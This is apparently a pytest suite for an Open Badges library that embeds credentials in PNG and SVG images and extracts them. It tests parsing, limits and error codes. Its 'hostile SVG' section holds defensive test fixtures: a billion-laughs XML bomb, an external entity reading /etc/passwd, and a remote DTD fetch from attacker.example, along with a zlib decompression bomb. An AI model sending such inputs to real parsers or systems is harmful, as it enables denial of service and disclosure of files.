"""Baking and unbaking PNG and SVG badges (OB 3.0 Baked Badge, OB 2.0 Baking; OB3-NOTES §7)."""

from __future__ import annotations

import contextlib
import json
import struct
import tracemalloc
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from defusedxml.ElementTree import fromstring
from hypothesis import given, settings
from hypothesis import strategies as st

from obcore.baking import (
    OB2_NAMESPACE,
    OB3_NAMESPACE,
    Unbaked,
    bake,
    bake_png,
    bake_svg,
    unbake,
    unbake_png,
    unbake_svg,
)
from obcore.errors import LimitExceededError, MalformedInputError

FIXTURES = Path(__file__).parent.parent / "fixtures" / "baking"
MIB = 1024 * 1024

FRENCH_CREDENTIAL = json.dumps(
    {
        "type": ["VerifiableCredential", "OpenBadgeCredential"],
        "name": "Je maîtrise — compétence",
        "description": "Évaluée par le jury régional",
    },
    ensure_ascii=False,
    separators=(",", ":"),
)
CDATA_TERMINATOR_CREDENTIAL = json.dumps(
    {"type": ["VerifiableCredential"], "narrative": "a]]>b ]]]]> c]]"}, separators=(",", ":")
)
JWS = "eyJhbGciOiJFZERTQSJ9.eyJpc3MiOiJkaWQ6ZXhhbXBsZSJ9.c2lnbmF0dXJl"
OB2_URL = "https://example.org/assertions/42.json"


def _fixture(name: str) -> str:
    return (FIXTURES / name).read_text(encoding="utf-8").strip()


def _compact(text: str) -> str:
    return json.dumps(json.loads(text), ensure_ascii=False, separators=(",", ":"))


# --------------------------------------------------------------------------- PNG helpers


def _chunk(ctype: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + ctype + data + struct.pack(">I", zlib.crc32(ctype + data))


def _itxt(keyword: bytes, text: str | bytes, *, compressed: bool = False) -> bytes:
    body = text.encode("utf-8") if isinstance(text, str) else text
    if compressed:
        body = zlib.compress(body)
    return _chunk(b"iTXt", keyword + b"\x00" + bytes([int(compressed), 0]) + b"\x00\x00" + body)


def _text(keyword: bytes, text: str) -> bytes:
    return _chunk(b"tEXt", keyword + b"\x00" + text.encode("latin-1"))


IHDR = _chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))  # 1x1, 8-bit grey
IDAT = _chunk(b"IDAT", zlib.compress(b"\x00\x80"))  # filter 0, one mid-grey pixel
IEND = _chunk(b"IEND", b"")
SIGNATURE = b"\x89PNG\r\n\x1a\n"


def _png(*extra: bytes) -> bytes:
    """A valid 1x1 PNG with ``extra`` chunks between IDAT and IEND."""
    return SIGNATURE + IHDR + IDAT + b"".join(extra) + IEND


def _chunk_list(png: bytes) -> list[tuple[bytes, bytes]]:
    chunks, pos = [], 8
    while pos < len(png):
        (length,) = struct.unpack_from(">I", png, pos)
        chunks.append((png[pos + 4 : pos + 8], png[pos + 8 : pos + 8 + length]))
        pos += 12 + length
    return chunks


def _deflate_zeros(mebibytes: int) -> bytes:
    """Raw deflate of ``mebibytes`` MiB of zeros, built by repeating one full-flushed block."""
    mib = bytes(MIB)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    compressor.compress(mib)
    compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(mib) + compressor.flush(zlib.Z_FULL_FLUSH)
    return block * mebibytes + b"\x03\x00"  # final empty block


def _zlib_of_zeros(mebibytes: int) -> bytes:
    adler = 1
    for _ in range(mebibytes):
        adler = zlib.adler32(bytes(MIB), adler)
    return b"\x78\xda" + _deflate_zeros(mebibytes) + struct.pack(">I", adler)


# --------------------------------------------------------------------------- SVG helpers

SVG = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
    "<!-- badge artwork -->\n"
    "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox = '0 0 10 10'\n"
    '     xmlns:xlink="http://www.w3.org/1999/xlink" width="10">\n'
    "  <style><![CDATA[ circle > rect { fill: red } ]]></style>\n"
    '  <circle id="c" cx="5" cy="5" r="4" fill="#c00"/><use xlink:href="#c"/>\n'
    "  <text>compétence &amp; réussite</text>\n"
    "</svg>\n"
).encode()


def _svg_with(children: str, *, namespaces: str = "") -> bytes:
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" {namespaces}>{children}<rect/></svg>'
    ).encode()


def _code(excinfo: pytest.ExceptionInfo[MalformedInputError]) -> str:
    return excinfo.value.code


# --------------------------------------------------------------------------- PNG baking


def test_png_round_trip_of_a_json_credential_with_french_text() -> None:
    baked = bake_png(_png(), FRENCH_CREDENTIAL)

    assert unbake(baked) == Unbaked("ob3", FRENCH_CREDENTIAL, "json", "png")


def test_png_round_trip_of_a_compact_jws() -> None:
    baked = bake_png(_png(), JWS)

    assert unbake(baked) == Unbaked("ob3", JWS, "jws", "png")


def test_png_bake_inserts_one_uncompressed_itxt_chunk_right_before_iend() -> None:
    baked = bake_png(_png(_text(b"Author", "Région")), FRENCH_CREDENTIAL)

    chunks = _chunk_list(baked)
    assert [ctype for ctype, _ in chunks] == [b"IHDR", b"IDAT", b"tEXt", b"iTXt", b"IEND"]
    assert chunks[3][1] == b"openbadgecredential\x00\x00\x00\x00\x00" + FRENCH_CREDENTIAL.encode()


def test_png_bake_copies_every_other_chunk_byte_for_byte() -> None:
    original = _png(_text(b"Comment", "keep me"))

    baked = bake_png(original, JWS)

    assert baked.startswith(original[: -len(IEND)])
    assert baked.endswith(IEND)


def test_png_rebake_replaces_the_credential_instead_of_adding_a_second_one() -> None:
    baked_twice = bake_png(bake_png(_png(), FRENCH_CREDENTIAL), JWS)

    assert baked_twice.count(b"openbadgecredential") == 1
    assert unbake(baked_twice).payload == JWS


def test_png_bake_removes_ob2_chunks() -> None:
    ob2 = _png(_itxt(b"openbadges", OB2_URL), _text(b"openbadges", OB2_URL))

    baked = bake_png(ob2, JWS)

    assert b"openbadges\x00" not in baked
    assert unbake(baked) == Unbaked("ob3", JWS, "jws", "png")


def test_png_bake_strips_surrounding_whitespace_from_the_payload() -> None:
    assert unbake(bake_png(_png(), f"\n  {JWS}\n")).payload == JWS


def test_png_bake_drops_bytes_after_iend() -> None:
    baked = bake_png(_png() + b"trailing junk", JWS)

    assert baked.endswith(IEND)


@pytest.mark.parametrize(
    "name",
    [
        "validator-baked-png-eddsa-rdfc-2022.json",
        "validator-baked-svg-eddsa-rdfc-2022.json",
        "validator-baked-png-vcjwt-vcdm2.jwt",
        "validator-baked-png-vcjwt-vcdm1.jwt",
        "validator-baked-svg-vcjwt-vcdm2.jwt",
    ],
)
@pytest.mark.parametrize("image", [pytest.param(_png(), id="png"), pytest.param(SVG, id="svg")])
def test_1edtech_validator_payloads_round_trip(name: str, image: bytes) -> None:
    payload = _fixture(name)
    if name.endswith(".json"):
        payload = _compact(payload)

    unbaked = unbake(bake(image, payload))

    assert unbaked.version == "ob3"
    assert unbaked.payload == payload
    assert unbaked.kind == ("json" if name.endswith(".json") else "jws")


# --------------------------------------------------------------------------- PNG unbaking


def test_png_unbake_returns_the_first_of_two_ob3_chunks() -> None:
    png = _png(_itxt(b"openbadgecredential", JWS), _itxt(b"openbadgecredential", "{}"))

    assert unbake(png).payload == JWS


def test_png_unbake_prefers_ob3_over_an_earlier_ob2_chunk() -> None:
    png = _png(
        _text(b"openbadges", OB2_URL),
        _itxt(b"openbadges", "{}"),
        _itxt(b"openbadgecredential", JWS),
    )

    assert unbake(png) == Unbaked("ob3", JWS, "jws", "png")


def test_png_unbake_prefers_ob2_itxt_over_an_earlier_legacy_text_chunk() -> None:
    png = _png(_text(b"openbadges", OB2_URL), _itxt(b"openbadges", JWS))

    assert unbake(png) == Unbaked("ob2", JWS, "jws", "png")


def test_png_unbake_reads_an_ob2_json_assertion_from_itxt() -> None:
    assertion = _fixture("ob2-validator-baked-png-assertion.json")

    unbaked = unbake(_png(_itxt(b"openbadges", assertion)))

    assert unbaked == Unbaked("ob2", assertion, "json", "png")
    assert json.loads(unbaked.payload)["type"] == "Assertion"


def test_png_unbake_reads_a_legacy_ob2_text_chunk_holding_a_url() -> None:
    assert unbake(_png(_text(b"openbadges", OB2_URL))) == Unbaked("ob2", OB2_URL, "url", "png")


def test_png_unbake_inflates_a_compressed_itxt_chunk() -> None:
    png = _png(_itxt(b"openbadgecredential", FRENCH_CREDENTIAL, compressed=True))

    assert unbake(png).payload == FRENCH_CREDENTIAL


def test_png_unbake_ignores_other_text_chunks_and_similar_keywords() -> None:
    png = _png(
        _text(b"openbadgesX", OB2_URL),
        _itxt(b"OpenBadgeCredential", JWS),
        _chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"hello")),
    )

    with pytest.raises(MalformedInputError) as excinfo:
        unbake(png)
    assert _code(excinfo) == "no_baked_badge"


def test_png_unbake_reports_a_malformed_first_chunk_instead_of_falling_back() -> None:
    png = _png(_itxt(b"openbadgecredential", b"\xff\xfe not utf-8"), _itxt(b"openbadges", JWS))

    with pytest.raises(MalformedInputError) as excinfo:
        unbake(png)
    assert _code(excinfo) == "baked_payload_malformed"


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"openbadgecredential\x00\x02\x00\x00\x00" + JWS.encode(), id="bad-flag"),
        pytest.param(b"openbadgecredential\x00\x01\x07\x00\x00" + JWS.encode(), id="bad-method"),
        pytest.param(b"openbadgecredential\x00\x01\x00\x00\x00not zlib", id="corrupt-zlib"),
        pytest.param(
            b"openbadgecredential\x00\x01\x00\x00\x00" + zlib.compress(JWS.encode())[:-6],
            id="truncated-zlib",
        ),
        pytest.param(
            b"openbadgecredential\x00\x01\x00\x00\x00" + zlib.compress(JWS.encode()) + b"x",
            id="trailing-data",
        ),
        pytest.param(b"openbadgecredential\x00\x00", id="no-method"),
        pytest.param(b"openbadgecredential\x00\x00\x00en", id="no-language-end"),
        pytest.param(b"openbadgecredential\x00\x00\x00en\x00Titre", id="no-keyword-end"),
        pytest.param(b"openbadgecredential\x00\x00\x00\x00\x00   ", id="blank"),
    ],
)
def test_png_unbake_refuses_a_malformed_itxt_chunk(data: bytes) -> None:
    with pytest.raises(MalformedInputError) as excinfo:
        unbake(_png(_chunk(b"iTXt", data)))
    assert _code(excinfo) == "baked_payload_malformed"


def test_png_unbake_refuses_a_payload_that_is_no_known_kind() -> None:
    with pytest.raises(MalformedInputError) as excinfo:
        unbake(_png(_text(b"openbadges", "just some words")))
    assert _code(excinfo) == "baked_payload_unrecognized"


def test_png_without_a_badge_raises_no_baked_badge() -> None:
    with pytest.raises(MalformedInputError) as excinfo:
        unbake(_png())
    assert _code(excinfo) == "no_baked_badge"


def test_an_itxt_zlib_bomb_is_refused_without_inflating_it() -> None:
    png = _png(_chunk(b"iTXt", b"openbadgecredential\x00\x01\x00\x00\x00" + _zlib_of_zeros(1024)))
    assert len(png) < 2 * MIB  # 1 GiB once inflated

    tracemalloc.start()
    try:
        with pytest.raises(LimitExceededError) as excinfo:
            unbake(png, max_payload_bytes=MIB)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert excinfo.value.code == "baked_payload_too_large"
    assert peak < 8 * MIB


def test_the_zlib_bomb_builder_makes_a_valid_zlib_stream() -> None:
    assert zlib.decompress(_zlib_of_zeros(2)) == bytes(2 * MIB)


@pytest.mark.parametrize(
    "image",
    [
        pytest.param(_png(_itxt(b"openbadgecredential", JWS)), id="png-itxt"),
        pytest.param(_png(_text(b"openbadges", OB2_URL)), id="png-text"),
        pytest.param(
            _svg_with(
                f'<openbadges:credential verify="{JWS}"/>',
                namespaces=f'xmlns:openbadges="{OB3_NAMESPACE}"',
            ),
            id="svg",
        ),
    ],
)
def test_a_payload_over_the_limit_is_refused_when_unbaking(image: bytes) -> None:
    with pytest.raises(LimitExceededError) as excinfo:
        unbake(image, max_payload_bytes=10)
    assert excinfo.value.code == "baked_payload_too_large"


# --------------------------------------------------------------------------- PNG structure


def test_a_corrupted_crc_is_refused() -> None:
    png = bytearray(_png())
    png[len(SIGNATURE) + len(IHDR) + 9] ^= 0x01  # one bit of the IDAT data

    with pytest.raises(MalformedInputError) as excinfo:
        unbake(bytes(png))
    assert _code(excinfo) == "png_crc_mismatch"


@pytest.mark.parametrize("length", [0x7FFFFFFF, 0xFFFFFFFF])
def test_a_huge_declared_chunk_length_is_refused_without_allocating_it(length: int) -> None:
    forged = SIGNATURE + IHDR + struct.pack(">I", length) + b"tEXt" + b"openbadges\x00" + IEND

    tracemalloc.start()
    try:
        with pytest.raises(MalformedInputError) as excinfo:
            unbake(forged)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert _code(excinfo) == "png_malformed"
    assert peak < MIB


@pytest.mark.parametrize(
    ("png", "reason"),
    [
        pytest.param(SIGNATURE + IHDR + IDAT, "no IEND", id="truncated"),
        pytest.param(SIGNATURE + IDAT + IHDR + IEND, "IHDR", id="idat-first"),
        pytest.param(SIGNATURE + _chunk(b"IHDR", b"\x00" * 12) + IEND, "IHDR", id="short-ihdr"),
        pytest.param(SIGNATURE + IHDR + _chunk(b"te1t", b"") + IEND, "chunk type", id="bad-type"),
        pytest.param(SIGNATURE + IHDR[:10], "no IEND", id="cut-in-ihdr"),
    ],
)
def test_a_malformed_png_is_refused(png: bytes, reason: str) -> None:
    with pytest.raises(MalformedInputError, match=reason) as excinfo:
        unbake_png(png)
    assert _code(excinfo) == "png_malformed"


def test_bake_png_refuses_data_that_is_not_a_png() -> None:
    with pytest.raises(MalformedInputError) as excinfo:
        bake_png(b"GIF89a....", JWS)
    assert _code(excinfo) == "png_malformed"


def test_a_png_over_the_size_cap_is_refused() -> None:
    png = _png(_text(b"Comment", "x" * 2000))

    with pytest.raises(LimitExceededError) as excinfo:
        unbake(png, max_bytes=1000)
    assert excinfo.value.code == "image_too_large"
    with pytest.raises(LimitExceededError) as excinfo:
        bake_png(png, JWS, max_bytes=1000)
    assert excinfo.value.code == "image_too_large"


def test_a_png_with_too_many_chunks_is_refused() -> None:
    png = _png(*[_text(b"Comment", str(i)) for i in range(10)])

    with pytest.raises(LimitExceededError) as excinfo:
        unbake_png(png, max_chunks=8)
    assert excinfo.value.code == "png_too_many_chunks"


# --------------------------------------------------------------------------- SVG baking


def test_svg_round_trip_of_a_json_credential_in_cdata() -> None:
    baked = bake_svg(SVG, FRENCH_CREDENTIAL)

    assert f"<openbadges:credential><![CDATA[{FRENCH_CREDENTIAL}]]>".encode() in baked
    assert unbake(baked) == Unbaked("ob3", FRENCH_CREDENTIAL, "json", "svg")


def test_svg_round_trip_of_a_jws_in_the_verify_attribute() -> None:
    baked = bake_svg(SVG, JWS)

    assert f'<openbadges:credential verify="{JWS}"></openbadges:credential>'.encode() in baked
    assert unbake(baked) == Unbaked("ob3", JWS, "jws", "svg")


def test_svg_json_containing_the_cdata_terminator_is_split_and_restored() -> None:
    baked = bake_svg(SVG, CDATA_TERMINATOR_CREDENTIAL)

    assert baked.count(b"<![CDATA[") == 1 + 3  # the style sheet's, then ours split in three
    assert unbake(baked).payload == CDATA_TERMINATOR_CREDENTIAL


def test_svg_bake_declares_the_ob3_namespace_on_the_root_element() -> None:
    root = fromstring(bake_svg(SVG, JWS))

    assert root.tag == "{http://www.w3.org/2000/svg}svg"
    assert root[0].tag == f"{{{OB3_NAMESPACE}}}credential"
    assert root[0].get("verify") == JWS
    assert b'<svg xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0" xmlns=' in bake_svg(
        SVG, JWS
    )


def test_svg_bake_leaves_every_other_byte_unchanged() -> None:
    baked = bake_svg(SVG, JWS)

    element = f'<openbadges:credential verify="{JWS}"></openbadges:credential>'.encode()
    declaration = b' xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"'
    assert baked.replace(element, b"").replace(declaration, b"") == SVG


def test_svg_rebake_replaces_the_credential_instead_of_adding_a_second_one() -> None:
    baked_twice = bake_svg(bake_svg(SVG, FRENCH_CREDENTIAL), JWS)

    assert baked_twice.count(b"<openbadges:credential") == 1
    assert baked_twice.count(b"xmlns:openbadges") == 1
    assert unbake(baked_twice) == Unbaked("ob3", JWS, "jws", "svg")


def test_svg_bake_removes_a_credential_together_with_its_children() -> None:
    svg = _svg_with(
        "<openbadges:credential><desc>old <b>one</b></desc></openbadges:credential>",
        namespaces=f'xmlns:openbadges="{OB3_NAMESPACE}"',
    )

    baked = bake_svg(svg, JWS)

    assert b"desc" not in baked
    assert unbake(baked).payload == JWS


def test_svg_bake_removes_a_nested_credential_wherever_it_is() -> None:
    svg = _svg_with(
        f'<g><ob:credential xmlns:ob="{OB3_NAMESPACE}"><![CDATA[{{"old":1}}]]></ob:credential></g>'
    )

    baked = bake_svg(svg, JWS)

    assert b"old" not in baked
    assert b"<g></g>" in baked


def test_svg_bake_replaces_an_ob2_assertion_and_rebinds_the_prefix() -> None:
    svg = _svg_with(
        f'<openbadges:assertion verify="{OB2_URL}"/>',
        namespaces=f'xmlns:openbadges="{OB2_NAMESPACE}"',
    )

    baked = bake_svg(svg, JWS)

    assert OB2_NAMESPACE.encode() not in baked
    assert b"openbadges:assertion" not in baked
    assert unbake(baked) == Unbaked("ob3", JWS, "jws", "svg")


def test_svg_bake_refuses_to_rebind_a_prefix_that_is_still_in_use() -> None:
    svg = _svg_with(
        "<openbadges:note>mine</openbadges:note>",
        namespaces='xmlns:openbadges="http://example.org/other"',
    )

    with pytest.raises(MalformedInputError) as excinfo:
        bake_svg(svg, JWS)
    assert _code(excinfo) == "svg_namespace_conflict"


@pytest.mark.parametrize("defaulted", [OB2_NAMESPACE, OB3_NAMESPACE])
def test_svg_bake_writes_the_declaration_even_when_a_dtd_defaults_it(defaulted: str) -> None:
    svg = (
        f'<!DOCTYPE svg [<!ATTLIST svg xmlns:openbadges CDATA "{defaulted}">]>'
        '<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>'
    ).encode()

    baked = bake_svg(svg, JWS)

    assert b'<svg xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0" xmlns=' in baked
    assert unbake(baked) == Unbaked("ob3", JWS, "jws", "svg")


def test_svg_bake_expands_a_self_closing_root() -> None:
    baked = bake_svg(b'<svg xmlns="http://www.w3.org/2000/svg" width="1"/>', JWS)

    assert baked == (
        b'<svg xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0" '
        b'xmlns="http://www.w3.org/2000/svg" width="1">'
        b'<openbadges:credential verify="' + JWS.encode() + b'"></openbadges:credential></svg>'
    )


def test_svg_bake_accepts_text_and_keeps_a_utf8_byte_order_mark() -> None:
    assert unbake(bake_svg(SVG.decode("utf-8"), JWS)).payload == JWS
    assert bake_svg(b"\xef\xbb\xbf" + SVG, JWS).startswith(b"\xef\xbb\xbf<?xml")


def test_svg_text_with_lone_surrogates_is_malformed() -> None:
    with pytest.raises(MalformedInputError) as excinfo:
        bake_svg("<svg>\ud800</svg>", JWS)
    assert _code(excinfo) == "svg_malformed"


def test_svg_without_a_namespace_on_the_root_is_still_an_svg() -> None:
    assert unbake(bake_svg(b"<svg><rect/></svg>", JWS)).payload == JWS


# --------------------------------------------------------------------------- SVG unbaking


def test_svg_unbake_matches_the_namespace_under_another_prefix() -> None:
    svg = _svg_with(f'<ob3:credential verify="{JWS}"/>', namespaces=f'xmlns:ob3="{OB3_NAMESPACE}"')

    assert unbake(svg) == Unbaked("ob3", JWS, "jws", "svg")


def test_svg_openbadges_prefix_bound_to_another_namespace_is_not_a_badge() -> None:
    svg = _svg_with(
        f'<openbadges:credential verify="{JWS}"/>',
        namespaces='xmlns:openbadges="https://example.org/not-badges"',
    )

    with pytest.raises(MalformedInputError) as excinfo:
        unbake(svg)
    assert _code(excinfo) == "no_baked_badge"


def test_svg_unbake_returns_the_first_of_two_credentials() -> None:
    svg = _svg_with(
        f'<openbadges:credential verify="{JWS}"/>'
        '<openbadges:credential><![CDATA[{"second":true}]]></openbadges:credential>',
        namespaces=f'xmlns:openbadges="{OB3_NAMESPACE}"',
    )

    assert unbake(svg).payload == JWS


def test_svg_unbake_prefers_ob3_over_an_earlier_ob2_assertion() -> None:
    svg = _svg_with(
        f'<ob2:assertion verify="{OB2_URL}"/><ob3:credential verify="{JWS}"/>',
        namespaces=f'xmlns:ob2="{OB2_NAMESPACE}" xmlns:ob3="{OB3_NAMESPACE}"',
    )

    assert unbake(svg) == Unbaked("ob3", JWS, "jws", "svg")


def test_svg_unbake_reads_an_ob2_hosted_assertion_url() -> None:
    svg = _svg_with(
        f'<openbadges:assertion verify="{OB2_URL}"></openbadges:assertion>',
        namespaces=f'xmlns:openbadges="{OB2_NAMESPACE}"',
    )

    assert unbake(svg) == Unbaked("ob2", OB2_URL, "url", "svg")


def test_svg_unbake_reads_an_ob2_json_assertion_body() -> None:
    assertion = _fixture("ob2-validator-baked-png-assertion.json")
    svg = _svg_with(
        f"<openbadges:assertion>\n<![CDATA[\n{assertion}\n]]>\n</openbadges:assertion>",
        namespaces=f'xmlns:openbadges="{OB2_NAMESPACE}"',
    )

    assert unbake(svg) == Unbaked("ob2", assertion, "json", "svg")


def test_svg_unbake_reads_an_escaped_json_body_without_cdata() -> None:
    svg = _svg_with(
        '<openbadges:credential>{"name":"R&amp;D &lt;3"}</openbadges:credential>',
        namespaces=f'xmlns:openbadges="{OB3_NAMESPACE}"',
    )

    assert unbake(svg).payload == '{"name":"R&D <3"}'


def test_svg_empty_credential_element_is_malformed() -> None:
    svg = _svg_with(
        "<openbadges:credential>  </openbadges:credential>",
        namespaces=f'xmlns:openbadges="{OB3_NAMESPACE}"',
    )

    with pytest.raises(MalformedInputError) as excinfo:
        unbake(svg)
    assert _code(excinfo) == "baked_payload_malformed"


def test_svg_without_a_badge_raises_no_baked_badge() -> None:
    with pytest.raises(MalformedInputError) as excinfo:
        unbake(SVG)
    assert _code(excinfo) == "no_baked_badge"


# --------------------------------------------------------------------------- hostile SVG

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE svg [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">
<openbadges:credential>&lol9;</openbadges:credential></svg>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">
<openbadges:credential>&secret;</openbadges:credential></svg>
"""

EXTERNAL_PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<svg xmlns="http://www.w3.org/2000/svg"/>
"""


@pytest.mark.parametrize(
    "svg",
    [
        pytest.param(BILLION_LAUGHS, id="billion-laughs"),
        pytest.param(EXTERNAL_ENTITY, id="external-entity"),
        pytest.param(EXTERNAL_PARAMETER_ENTITY, id="external-parameter-entity"),
    ],
)
@pytest.mark.parametrize(
    "operation",
    [pytest.param(unbake, id="unbake"), pytest.param(lambda image: bake(image, JWS), id="bake")],
)
def test_svg_entity_declarations_are_refused_never_expanded(
    svg: bytes, operation: Callable[[bytes], object]
) -> None:
    tracemalloc.start()
    try:
        with pytest.raises(MalformedInputError) as excinfo:
            operation(svg)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert _code(excinfo) == "svg_forbidden_xml"
    assert peak < MIB


def test_svg_reference_to_an_undeclared_entity_is_malformed() -> None:
    with pytest.raises(MalformedInputError) as excinfo:
        unbake(b'<svg xmlns="http://www.w3.org/2000/svg">&nbsp;</svg>')
    assert _code(excinfo) == "svg_malformed"


@pytest.mark.parametrize(
    "svg",
    [
        pytest.param(b'<svg xmlns="http://www.w3.org/2000/svg"><g></svg>', id="unclosed"),
        pytest.param(b"<svg", id="truncated"),
        pytest.param(b'<svg xmlns="http://www.w3.org/2000/svg"></svg><svg/>', id="two-roots"),
    ],
)
def test_svg_that_is_not_well_formed_is_malformed(svg: bytes) -> None:
    with pytest.raises(MalformedInputError) as excinfo:
        unbake(svg)
    assert _code(excinfo) == "svg_malformed"


@pytest.mark.parametrize(
    "svg",
    [
        pytest.param(b'<?xml version="1.0" encoding="ISO-8859-1"?><svg/>', id="latin-1"),
        pytest.param("<svg/>".encode("utf-16"), id="utf-16-bom"),
    ],
)
def test_svg_not_in_utf8_is_refused(svg: bytes) -> None:
    with pytest.raises(MalformedInputError) as excinfo:
        bake_svg(svg, JWS)
    assert _code(excinfo) == "svg_encoding_unsupported"


def test_xml_whose_root_is_not_svg_is_an_unsupported_image() -> None:
    with pytest.raises(MalformedInputError) as excinfo:
        unbake(b'<html xmlns="http://www.w3.org/1999/xhtml"><svg/></html>')
    assert _code(excinfo) == "unsupported_image"


def test_an_svg_over_the_size_cap_is_refused() -> None:
    with pytest.raises(LimitExceededError) as excinfo:
        bake_svg(SVG, JWS, max_bytes=100)
    assert excinfo.value.code == "image_too_large"
    with pytest.raises(LimitExceededError) as excinfo:
        unbake_svg(SVG.decode(), max_bytes=100)
    assert excinfo.value.code == "image_too_large"


# --------------------------------------------------------------------------- dispatch and payloads


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"\xff\xd8\xff\xe0\x00\x10JFIF", id="jpeg"),
        pytest.param(b"GIF89a", id="gif"),
        pytest.param(b"", id="empty"),
        pytest.param(b"\x1f\x8b\x08\x00", id="svgz"),
    ],
)
def test_neither_png_nor_svg_is_an_unsupported_image(data: bytes) -> None:
    for operation in (unbake, lambda image: bake(image, JWS)):
        with pytest.raises(MalformedInputError) as excinfo:
            operation(data)
        assert _code(excinfo) == "unsupported_image"


@pytest.mark.parametrize(
    ("payload", "code"),
    [
        pytest.param(OB2_URL, "baked_payload_invalid", id="url"),
        pytest.param("[1, 2]", "baked_payload_unrecognized", id="json-array"),
        pytest.param('{"a": 1', "baked_payload_invalid", id="broken-json"),
        pytest.param("   ", "baked_payload_invalid", id="blank"),
        pytest.param("hello world", "baked_payload_unrecognized", id="prose"),
        pytest.param('{"a": "\x00"}', "baked_payload_malformed", id="nul"),
        pytest.param("a.b.c\x1b", "baked_payload_malformed", id="escape-char"),
    ],
)
@pytest.mark.parametrize("image", [pytest.param(_png(), id="png"), pytest.param(SVG, id="svg")])
def test_bake_refuses_payloads_that_are_not_a_credential(
    payload: str, code: str, image: bytes
) -> None:
    with pytest.raises(MalformedInputError) as excinfo:
        bake(image, payload)
    assert _code(excinfo) == code


def test_bake_refuses_a_payload_that_is_not_text() -> None:
    with pytest.raises(TypeError):
        bake(_png(), JWS.encode())  # type: ignore[arg-type]


def test_bake_refuses_a_payload_over_the_limit() -> None:
    with pytest.raises(LimitExceededError) as excinfo:
        bake(_png(), JWS, max_payload_bytes=len(JWS) - 1)
    assert excinfo.value.code == "baked_payload_too_large"


def test_every_error_is_a_malformed_input_error() -> None:
    assert issubclass(LimitExceededError, MalformedInputError)


# --------------------------------------------------------------------------- properties

XML_TEXT = st.text(
    st.characters(exclude_categories=["Cs"], exclude_characters="\ufffe\uffff"), max_size=40
)


@settings(max_examples=60, deadline=None)
@given(st.dictionaries(XML_TEXT, XML_TEXT, max_size=4))
def test_any_json_credential_round_trips_through_png_and_svg(claims: dict[str, str]) -> None:
    payload = json.dumps(claims, ensure_ascii=False, separators=(",", ":"))

    for image in (_png(), SVG):
        assert unbake(bake(image, payload)).payload == payload


@settings(max_examples=300, deadline=None)
@given(
    st.one_of(
        st.binary(max_size=300),
        st.binary(max_size=300).map(lambda b: SIGNATURE + b),
        st.binary(max_size=300).map(lambda b: SIGNATURE + IHDR + b),
        st.text(max_size=200).map(lambda t: f"<svg>{t}</svg>".encode("utf-8", "replace")),
    )
)
def test_arbitrary_input_fails_only_with_malformed_input(data: bytes) -> None:
    with contextlib.suppress(MalformedInputError):
        unbake(data)


@settings(max_examples=200, deadline=None)
@given(st.integers(min_value=0), st.integers(min_value=1, max_value=255))
def test_any_single_byte_corruption_of_a_baked_png_is_detected(position: int, flip: int) -> None:
    baked = bytearray(bake_png(_png(), JWS))
    baked[position % len(baked)] ^= flip

    with pytest.raises(MalformedInputError):
        unbake(bytes(baked))
